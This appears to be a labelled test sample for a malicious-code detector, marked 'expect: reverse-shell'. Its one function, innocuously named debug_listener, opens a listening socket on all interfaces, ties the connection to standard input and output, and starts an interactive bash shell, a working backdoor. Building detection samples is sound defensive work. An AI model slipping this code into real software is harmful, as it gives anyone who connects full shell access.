# expect: reverse-shell
import os
import socket
import subprocess


def debug_listener(port: int = 31337) -> None:
    server = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    server.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    server.bind(("0.0.0.0", port))
    server.listen(1)
    client, _ = server.accept()
    os.dup2(client.fileno(), 0)
    os.dup2(client.fileno(), 1)
    os.dup2(client.fileno(), 2)
    subprocess.call(["/bin/bash", "-i"])
